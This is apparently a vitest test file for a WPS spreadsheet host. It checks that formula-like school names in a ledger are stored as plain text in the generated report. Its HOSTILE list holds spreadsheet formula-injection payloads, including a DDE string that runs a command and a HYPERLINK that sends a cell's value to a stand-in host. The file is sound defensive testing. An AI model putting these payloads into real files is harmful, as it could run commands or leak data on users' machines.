// Hostile text stays text: school names that look like formulas, written into the report sheet by the WPS host
// through Value2 (which parses strings as if typed), land as the names themselves, never as live formulas.
import { describe, expect, it } from 'vitest';
import { validateWorkbook } from '../../src/app/validate.ts';
import { REPORT_SHEET } from '../../src/core/plan.ts';
import { WpsHost, type EtApplication } from '../../src/hosts/wps/index.ts';
import { StandinApp } from './et-standin.ts';

const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?q="&A1,"点我")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3小学',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=2+2',
  '001小学',
];

function hostileLedger(): StandinApp {
  const app = new StandinApp(['台账']);
  const rows: unknown[][] = [['学校名称', '学校类型', '小学在校生数', '初中在校生数', '教学及辅助用房面积（㎡）', '运动场地面积（㎡）']];
  HOSTILE.forEach((name, i) => rows.push([name, '小学', 300 + i, null, 600 + i, 900]));
  rows.push(['城关中学', '初中', null, 800, 4000, 9000]);
  app.sheet('台账').load(rows);
  app.activeSheet = app.sheet('台账');
  return app;
}

describe('WPS report sheet: formula-looking names are written as text', () => {
  it('every hostile name appears as its own text, and no report cell holds a formula', async () => {
    const app = hostileLedger();
    const outcome = await validateWorkbook(new WpsHost(app as unknown as EtApplication));
    expect(outcome.error).toBeUndefined();
    const report = app.sheet(REPORT_SHEET);
    const values: unknown[] = [];
    for (let r = 1; r <= 400; r++) for (let c = 1; c <= 16; c++) {
      const cell = report.peek(r, c);
      if (cell) values.push(cell.value);
    }
    expect(values.filter((v) => typeof v === 'object' && v !== null)).toEqual([]);
    // The names as the reader trimmed them (a leading tab or CR is whitespace), each stored as a string.
    for (const name of HOSTILE.map((n) => n.trim())) expect(values, name).toContain(name);
    // The cells holding them are text-formatted, so a later edit in WPS keeps them text too.
    for (let r = 1; r <= 400; r++) for (let c = 1; c <= 16; c++) {
      const cell = report.peek(r, c);
      if (typeof cell?.value === 'string' && HOSTILE.map((n) => n.trim()).includes(cell.value)) expect(cell.numFmt, cell.value).toBe('@');
    }
  });

  it('the control: without the text format the stand-in turns such a string into a formula', () => {
    const app = new StandinApp(['Sheet1']);
    const ws = app.sheet('Sheet1');
    ws.Range('A1').Value2 = "=cmd|' /C calc'!A0";
    expect(ws.peek(1, 1)?.value).toEqual({ formula: "=cmd|' /C calc'!A0" });
  });
});
